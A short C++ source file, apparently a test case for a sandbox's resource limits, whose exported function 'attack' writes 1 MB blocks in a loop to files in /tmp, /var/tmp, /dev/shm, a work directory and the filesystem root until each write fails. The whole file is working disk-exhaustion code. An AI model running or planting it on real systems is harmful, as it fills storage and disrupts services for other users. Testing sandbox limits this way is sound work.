#include <cstring>
#include <fcntl.h>
#include <initializer_list>
#include <unistd.h>

static char block[1 << 20];

extern "C" long attack(long n) {
    memset(block, 'x', sizeof block);
    for (const char *name :
         {"/tmp/full", "/work/files/full", "/var/tmp/full", "/dev/shm/full", "/full"}) {
        int file = open(name, O_CREAT | O_WRONLY, 0600);
        while (file >= 0 && write(file, block, sizeof block) > 0) {
        }
    }
    return n;
}
